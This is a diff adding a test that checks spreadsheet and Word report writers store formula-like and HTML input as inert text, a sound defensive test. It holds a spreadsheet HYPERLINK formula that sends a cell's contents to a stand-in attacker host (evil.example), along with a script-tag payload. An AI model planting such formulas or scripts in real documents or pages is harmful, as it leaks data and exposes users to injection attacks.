@@ -79,4 +79,26 @@ describe('report writers', () => {
   it('refuses a row that does not cover the table', async () => {
     await expect(renderXlsx({ ...doc, rows: [{ kind: 'cells', cells: [{ value: 'x' }] }] })).rejects.toThrow('covers 1 columns of 4');
   });
+
+  it('writes text that looks like a formula or HTML as text: no cell of the .xlsx is a formula, the .docx escapes the markup', async () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', '+1+1', '-2+3', '@SUM(A1:A2)', '<script>alert(1)</script> & "trích dẫn"'];
+    const withHostile: ReportDocument = {
+      ...doc,
+      rows: hostile.map((text, i) => ({ kind: 'cells' as const, cells: [{ value: String(i + 1) }, { value: text }, { value: text }, { value: null }] })),
+    };
+    const bytes = await renderXlsx(withHostile);
+    const sheetXml = await (await JSZip.loadAsync(bytes)).file('xl/worksheets/sheet1.xml')!.async('string');
+    expect(sheetXml).not.toContain('<f>');
+    const workbook = new Workbook();
+    await workbook.xlsx.load(bytes as unknown as Parameters<Workbook['xlsx']['load']>[0]);
+    const texts: unknown[] = [];
+    workbook.getWorksheet('Tiến độ thực hiện')!.eachRow((row) => row.eachCell((cell) => texts.push(cell.value)));
+    for (const text of hostile) expect(texts.filter((v) => v === text)).toHaveLength(2);
+
+    const { xml, paragraphs } = await docxParagraphs(await renderDocx(withHostile));
+    expect(xml).not.toContain('<script>');
+    expect(xml).toContain('&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;trích dẫn&quot;');
+    expect(xml).toContain('=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Bấm vào đây&quot;)');
+    for (const text of hostile.slice(1, 4)) expect(paragraphs.filter((p) => p === text)).toHaveLength(2);
+  });
 });
